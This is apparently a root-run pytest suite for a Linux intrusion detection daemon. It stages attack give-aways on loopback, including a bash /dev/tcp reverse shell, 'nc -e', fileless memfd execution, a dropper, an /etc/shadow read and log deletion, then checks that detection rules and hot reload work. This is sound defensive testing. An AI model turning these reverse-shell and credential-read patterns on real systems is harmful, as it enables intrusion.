"""The default rule pack on this machine's real kernel, and rule hot reload, with a real spyderd.

Real attacks' give-aways, run for real (against loopback only): a program run from a temporary
directory, netcat told to run a program, a /dev/tcp reverse shell (exec and the shell's own
connection), a python one-liner that connects out and starts a shell, a listening web app
that starts a shell and an inline-code interpreter, a command erasing shell history, useradd.
Each must reach journald as a finding of the right default rule, with its ATT&CK ids.

Hot reload: a broken rule set is refused with located errors (spyderctl reload's output and
journald), the old rules keep firing; a fixed set is taken and its new rule fires; execs run
during reloads are all in the store (no event dropped while the rule set is swapped).
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from pathlib import Path

import pytest
from conftest import REPO, Spyderd, journal_entries, wait_for

pytestmark = pytest.mark.root
MSG_RELOAD_REFUSED = "3a1e23b29f894585825677485ff8604f"
WEB_APP = r"""
import socket, subprocess, sys
tag = sys.argv[1]
srv = socket.socket()
srv.bind(("127.0.0.1", 0))
srv.listen(1)
print(srv.getsockname()[1], flush=True)
conn, _ = srv.accept()
conn.recv(100)
subprocess.run(["/bin/sh", "-c", f"echo {tag}"], stdout=subprocess.DEVNULL)
subprocess.run([sys.executable, "-c", f"print('{tag}')"], stdout=subprocess.DEVNULL)
conn.sendall(b"done")
conn.close()
"""
FILELESS_PY = (
    "import ctypes, os, sys\n"
    "fd = os.memfd_create('payload', 0)\n"
    "os.write(fd, open('/bin/true', 'rb').read())\n"
    "pid = os.fork()\n"
    "if pid == 0:\n"
    "    os.execve(fd, ['payload', sys.argv[1]], {})\n"
    "os.waitpid(pid, 0)\n"
    "libc = ctypes.CDLL(None, use_errno=True)\n"
    "libc.syscall(313, -1, b'', 0)  # finit_module: ENOSYS or EBADF, the attempt is what counts\n"
)
DROPPER_PY = (
    "import os, shutil, subprocess, sys\n"
    "shutil.copyfile('/bin/true', sys.argv[1])\n"
    "os.chmod(sys.argv[1], 0o755)\n"
    "subprocess.run([sys.argv[1], sys.argv[2]])\n"
)
REVERSE_PY = (
    "import socket, subprocess, sys, time\n"
    "s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))\n"
    "time.sleep(0.5)  # the connect and the exec come from different probes\n"
    "subprocess.run(['/bin/sh', '-c', 'echo ' + sys.argv[2]], stdout=subprocess.DEVNULL)\n"
    "s.close()\n"
)


SINK = r"""
import socket, threading
srv = socket.socket()
srv.bind(("127.0.0.1", 0))
srv.listen(16)
print(srv.getsockname()[1], flush=True)


def drain(conn):
    with conn:
        while conn.recv(4096):
            pass


while True:
    conn, _ = srv.accept()
    threading.Thread(target=drain, args=(conn,), daemon=True).start()
"""


class Sink:
    """A loopback TCP listener that accepts and drains everything (the 'attacker'), in a
    process of its own: a listening pytest would itself look like a web server to the rules."""

    def __init__(self) -> None:
        self.proc = subprocess.Popen([sys.executable, "-c", SINK], stdout=subprocess.PIPE,
                                     text=True)  # fmt: skip
        self.port = int(self.proc.stdout.readline())

    def close(self) -> None:
        self.proc.kill()
        self.proc.wait(10)


@pytest.fixture(scope="module")
def daemon(journald):
    base = Path(tempfile.mkdtemp(prefix="spyder-rules-"))
    local = base / "local"
    local.mkdir()
    cfg = base / "spyderd.yaml"
    cfg.write_text("findings:\n  settle: 0.3\n")
    d = Spyderd(base, [str(REPO / "rules"), str(local)], cfg)
    d.local = local
    d.start(wait=120)
    yield d
    d.stop()
    shutil.rmtree(base, ignore_errors=True)


@pytest.fixture
def sink():
    s = Sink()
    yield s
    s.close()


def run(args: list[str], **kw) -> subprocess.CompletedProcess:
    return subprocess.run(args, capture_output=True, text=True, timeout=60, check=False, **kw)


def findings(rule: str, tag: str) -> list[dict]:
    return [e for e in journal_entries(SYSLOG_IDENTIFIER="spyderd", SPYDER_RULE=rule)
            if tag in e.get("SPYDER_CMDLINE", "") or tag in e.get("MESSAGE", "")]  # fmt: skip


def expect(d: Spyderd, rule: str, tag: str, mitre: str, *, exe: str = "", chain: str = "") -> dict:
    """The rule's finding about `tag` in journald (its exe ending in `exe`, its chain holding
    `chain`), waited for up to 20 s."""
    got = wait_for(
        lambda: [
            e
            for e in findings(rule, tag)
            if e.get("SPYDER_EXE", "").endswith(exe) and chain in e.get("SPYDER_CHAIN", "")
        ],
        20,
    )
    assert got, f"no {rule!r} finding for {tag} in journald\n" + d.log.read_text()[-3000:]
    entry = got[-1]
    assert mitre in entry["SPYDER_MITRE"], entry["SPYDER_MITRE"]
    assert entry["SPYDER_FINDING_ID"] and entry["SPYDER_TRACE_ID"] and entry["MESSAGE_ID"]
    return entry


def test_default_rules_fire_on_the_real_kernel(daemon, sink, tmp_path) -> None:
    tag = "spy" + uuid.uuid4().hex[:10]
    # 1. a program run from a temporary directory
    drop = tmp_path / f"{tag}-kworker"
    shutil.copy2("/bin/true", drop)
    assert run([str(drop), tag]).returncode == 0
    # 2. netcat told to run a program (busybox nc, connecting to a closed loopback port)
    bindir = tmp_path / "bin"
    bindir.mkdir()
    (bindir / "nc").symlink_to("/bin/busybox")
    run([str(bindir / "nc"), "-w", "1", "-e", "/bin/true", "127.0.0.1", "1", tag])
    # 3. a /dev/tcp reverse shell: the command line, and the shell's own connection
    bash = run(["/bin/bash", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{sink.port}; echo {tag} >&3"])
    assert bash.returncode == 0, bash.stderr
    # 4. a python one-liner that connects out, then starts a shell
    assert run([sys.executable, "-c", REVERSE_PY, str(sink.port), tag]).returncode == 0
    # 5. a listening web app that starts a shell and an inline-code interpreter
    app = subprocess.Popen([sys.executable, "-c", WEB_APP, tag], stdout=subprocess.PIPE,
                           text=True)  # fmt: skip
    port = int(app.stdout.readline())
    with socket.create_connection(("127.0.0.1", port), timeout=10) as c:
        c.sendall(b"GET /")
        assert c.recv(10) == b"done"
    app.wait(10)
    # 6. a command erasing shell history
    history = tmp_path / f"{tag}.bash_history"
    history.write_text("ls\n")
    assert run(["rm", "-f", str(history)]).returncode == 0
    # 7. useradd (its help only: the rule is about running it)
    run(["useradd", "--help", tag])
    # 8. fileless execution from a memfd, then a kernel module load attempt
    assert run([sys.executable, "-c", FILELESS_PY, tag]).returncode == 0
    # 9. download then run: a script writes an executable and runs it
    dropper = tmp_path / f"{tag}-dropped"
    assert run([sys.executable, "-c", DROPPER_PY, str(dropper), tag]).returncode == 0
    # 10. an unprivileged read of /etc/shadow (refused: a failed open)
    run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "cat", "/etc/shadow", tag])
    # 11. a log file deleted
    log = Path(f"/var/log/{tag}.log")
    log.write_text("x\n")
    assert run(["rm", "-f", str(log)]).returncode == 0
    # 12. ptrace: strace seizes a running process
    victim = subprocess.Popen(["sleep", "30"])
    try:
        strace = subprocess.Popen(
            ["strace", "-p", str(victim.pid), "-o", "/dev/null", "-e", "trace=none"],
            stderr=subprocess.DEVNULL,
        )
        time.sleep(1.0)
        strace.terminate()
        strace.wait(10)
    finally:
        victim.kill()
        victim.wait(10)

    entry = expect(daemon, "Program run from a temporary directory", tag, "T1204.002",
                   exe=str(drop))  # fmt: skip
    assert entry["PRIORITY"] == "4" and entry["SPYDER_SEVERITY"] == "medium"
    expect(daemon, "Netcat or socat running a program", tag, "T1059.004")
    expect(daemon, "Reverse shell through /dev/tcp", tag, "T1059.004")
    entry = expect(daemon, "Shell made a network connection", tag, "T1071")
    assert entry["PRIORITY"] == "3" and entry["SPYDER_EXE"].endswith("bash")
    assert f"127.0.0.1:{sink.port}" in entry["MESSAGE"]
    entry = expect(daemon, "Shell started by a script that connected out", tag, "T1059.006")
    assert "python" in entry["MESSAGE"]
    entry = expect(daemon, "Shell spawned below a web server", tag, "T1505.003",
                   chain=f"[{app.pid}] > sh[")  # fmt: skip
    assert f"web server python (pid {app.pid})" in entry["MESSAGE"], entry["MESSAGE"]
    expect(daemon, "Interpreter with inline code below a web server", tag, "T1059.006",
           chain=f"[{app.pid}] > python")  # fmt: skip
    expect(daemon, "Command erasing shell history or logs", tag, "T1070.003")
    expect(daemon, "Local user account created", tag, "T1136.001")
    entry = expect(daemon, "Fileless execution from memory", tag, "T1620")
    assert entry["SPYDER_EXE"].startswith("/dev/fd/"), entry["SPYDER_EXE"]
    fileless_parent = entry["SPYDER_CHAIN"].split(" > ")[-2]
    assert fileless_parent.startswith("python"), entry["SPYDER_CHAIN"]
    entry = expect(daemon, "Kernel module loaded", "finit_module", "T1547.006",
                   chain=fileless_parent)  # fmt: skip
    assert entry["PRIORITY"] == "3"
    entry = expect(daemon, "Downloaded file executed", tag, "T1105", exe=str(dropper))
    assert "written by python" in entry["MESSAGE"], entry["MESSAGE"]
    entry = expect(daemon, "Shadow file read by a non-system program", tag, "T1003.008")
    assert "op open_failed, result -13" in entry["MESSAGE"] and entry["SPYDER_UID"] == "65534"
    entry = expect(daemon, "Log file deleted or truncated", tag, "T1070.002", exe="rm")
    assert f"{log} unlink" in entry["MESSAGE"], entry["MESSAGE"]
    # strace seizes a probe child of its own first; the finding folds both attaches
    entry = expect(daemon, "Process attached to another with ptrace", f"-p {victim.pid}",
                   "T1055.008", exe="strace")  # fmt: skip
    assert "(request 16902)" in entry["MESSAGE"], entry["MESSAGE"]
    st = json.loads(daemon.ctl("status", "-o", "json", check=True).stdout)
    assert st.get("rules_disabled", {}) == {}, st.get("rules_disabled")


RELOAD_RULE = """\
- rule: "Test: reload marker"
  description: A marker program, to see that a reloaded rule set is in force.
  event: exec
  condition: process.args contains {marker}
  severity: low
  tags: [T1059]
  output: "reload marker {{process.cmdline}}"
"""


def test_reload_refuses_a_broken_set_and_keeps_the_old_one(daemon, tmp_path) -> None:
    tag = "spy" + uuid.uuid4().hex[:10]
    broken = daemon.local / "broken.yaml"
    broken.write_text(
        '- rule: "Test: broken"\n  event: exec\n  severity: high\n  output: x\n'
        "  condition: process.name = sh and and process.nmae = x\n"
    )
    try:
        r = daemon.ctl("reload")
        assert r.returncode == 1, r.stdout + r.stderr
        assert f"{broken}:5:36: error[E201]: unexpected 'and'" in r.stderr, r.stderr
        assert "previous rules stay active" in r.stderr
        logged = wait_for(lambda: [  # the path is new for this run: no older entry has it
            e for e in journal_entries(SYSLOG_IDENTIFIER="spyderd", MESSAGE_ID=MSG_RELOAD_REFUSED)
            if f"{broken}:5:36" in e["MESSAGE"]], 10)  # fmt: skip
        assert logged, "the refused reload is not in journald"
        assert "rule reload refused" in logged[-1]["MESSAGE"]
        # the old rule set still works
        drop = tmp_path / f"{tag}-old"
        shutil.copy2("/bin/true", drop)
        run([str(drop), tag])
        expect(daemon, "Program run from a temporary directory", tag, "T1204.002")
    finally:
        broken.unlink()
    marker = f"spy-marker-{tag}"
    (daemon.local / "marker.yaml").write_text(RELOAD_RULE.format(marker=marker))
    try:
        r = daemon.ctl("reload")
        assert r.returncode == 0, r.stderr
        rules = int(r.stdout.split(":")[1].split()[0])
        assert rules == _pack_size() + 1, r.stdout
        run(["/bin/true", marker])
        expect(daemon, "Test: reload marker", marker, "T1059")
    finally:
        (daemon.local / "marker.yaml").unlink()
        daemon.ctl("reload", check=True)


def _pack_size() -> int:
    r = subprocess.run(
        [sys.executable, "-m", "spyderd.ctl", "rules", "list", str(REPO / "rules")],
        cwd=REPO,
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    )
    return len(r.stdout.splitlines())


def test_no_event_is_dropped_while_rules_reload(daemon) -> None:
    tag = "spy" + uuid.uuid4().hex[:10]
    since = time.time() - 1
    st = json.loads(daemon.ctl("status", "-o", "json", check=True).stdout)
    lost_before = sum((st.get("lost") or {}).values())
    stop = threading.Event()
    ran: list[int] = []

    def burst() -> None:
        """execs, a few ms apart, until three reloads are done (and at least 100 of them)."""
        i = 0
        while not stop.is_set() or i < 100:
            subprocess.run(["/bin/true", f"{tag}-{i}"], check=True)
            ran.append(i)
            i += 1
            time.sleep(0.005)

    t = threading.Thread(target=burst)
    t.start()
    try:
        for _ in range(3):
            r = daemon.ctl("reload")
            assert r.returncode == 0, r.stderr
    finally:
        stop.set()
        t.join()
    count = len(ran)

    def seen() -> set[str]:
        out = daemon.ctl("events", "--kind", "exec", "--since", f"@{since:.0f}", "-o", "json",
                         check=True).stdout  # fmt: skip
        args = (json.loads(line).get("args", []) for line in out.splitlines() if line.strip())
        return {a[1] for a in args if len(a) > 1 and a[1].startswith(tag)}

    got = wait_for(lambda: len(seen()) == count and seen(), 20)
    assert len(got or seen()) == count, f"{count - len(seen())} execs missing after reloads"
    st = json.loads(daemon.ctl("status", "-o", "json", check=True).stdout)
    assert sum((st.get("lost") or {}).values()) == lost_before
    assert os.path.exists(daemon.run / "reload.json")


def test_record_then_replay_with_rules_test(daemon, tmp_path) -> None:
    """`spyderctl record` writes what the daemon saw, with the context a replay needs: a web
    app started before the recording is still known to be a listening web server."""
    tag = "spy" + uuid.uuid4().hex[:10]
    app = subprocess.Popen([sys.executable, "-c", WEB_APP, tag], stdout=subprocess.PIPE,
                           text=True)  # fmt: skip
    port = int(app.stdout.readline())
    time.sleep(1.0)  # its listen event is stored before the recording starts
    out = tmp_path / "recording.jsonl"
    rec = subprocess.Popen([sys.executable, "-m", "spyderd.ctl", "record", "--seconds", "4",
                            "-o", str(out)], env=daemon.env, cwd=REPO,
                           stderr=subprocess.PIPE, text=True)  # fmt: skip
    time.sleep(1.0)
    with socket.create_connection(("127.0.0.1", port), timeout=10) as c:
        c.sendall(b"GET /")
        assert c.recv(10) == b"done"
    app.wait(10)
    _, err = rec.communicate(timeout=60)
    assert rec.returncode == 0, err
    lines = [json.loads(x) for x in out.read_text().splitlines()]
    assert lines[0]["kind"] == "recording"
    snap = [x for x in lines if x["kind"] == "snapshot"]
    server = [x for x in snap if x["pid"] == app.pid]
    assert server and server[0]["listen_ports"] == [port], snap
    assert any(x["kind"] == "exec" and tag in " ".join(x["args"]) for x in lines)
    r = daemon.ctl("rules", "test", str(REPO / "rules"), "--events", str(out), "--rule",
                   "Shell spawned below a web server", "-o", "json")  # fmt: skip
    assert r.returncode == 0, r.stdout + r.stderr
    found = [json.loads(x) for x in r.stdout.splitlines()]
    assert any(f"web server python (pid {app.pid})" in m["output"] for m in found), found


SEQUENCE_RULE = """\
- rule: "Test: web shell calls out"
  description: The default pack's sequence, with loopback allowed (tests have no other net).
  sequence:
    - event: accept
      condition: web_server
    - event: exec
      condition: process.name in (shell_binaries)
    - event: connect
      condition: connection.result = 0 and connection.remote_port = {port}
  within: 1m
  severity: high
  tags: [T1505.003]
  output: "{{process.name}} called {{connection.remote_ip}}:{{connection.remote_port}} below {{ancestor.name}} (pid {{ancestor.pid}})"
"""
SHELL_APP = r"""
import socket, subprocess, sys
srv = socket.socket()
srv.bind(("127.0.0.1", 0))
srv.listen(1)
print(srv.getsockname()[1], flush=True)
conn, _ = srv.accept()
conn.recv(100)
subprocess.run(["/bin/bash", "-c", sys.argv[1]])
conn.sendall(b"done")
conn.close()
"""


def test_sequence_rule_on_the_real_kernel(daemon, sink) -> None:
    """accept by a listening app -> a shell below it -> that shell connects: one finding."""
    (daemon.local / "sequence.yaml").write_text(SEQUENCE_RULE.format(port=sink.port))
    try:
        assert daemon.ctl("reload").returncode == 0
        tag = "spy" + uuid.uuid4().hex[:10]
        cmd = f"exec 3<>/dev/tcp/127.0.0.1/{sink.port}; echo {tag} >&3"
        app = subprocess.Popen([sys.executable, "-c", SHELL_APP, cmd], stdout=subprocess.PIPE,
                               text=True)  # fmt: skip
        port = int(app.stdout.readline())
        time.sleep(0.5)  # the app's listen event first
        with socket.create_connection(("127.0.0.1", port), timeout=10) as c:
            c.sendall(b"GET /")
            assert c.recv(10) == b"done"
        app.wait(10)
        entry = expect(daemon, "Test: web shell calls out", tag, "T1505.003",
                       chain=f"[{app.pid}] > bash[")  # fmt: skip
        assert f"below python (pid {app.pid})" in entry["MESSAGE"], entry["MESSAGE"]
        assert f"127.0.0.1:{sink.port}" in entry["MESSAGE"]
        st = json.loads(daemon.ctl("status", "-o", "json", check=True).stdout)
        seq = st["rules_stats"]["sequences"]["Test: web shell calls out"]
        assert seq["completed"] >= 1 and seq["started"] >= 1, seq
    finally:
        (daemon.local / "sequence.yaml").unlink()
        daemon.ctl("reload", check=True)
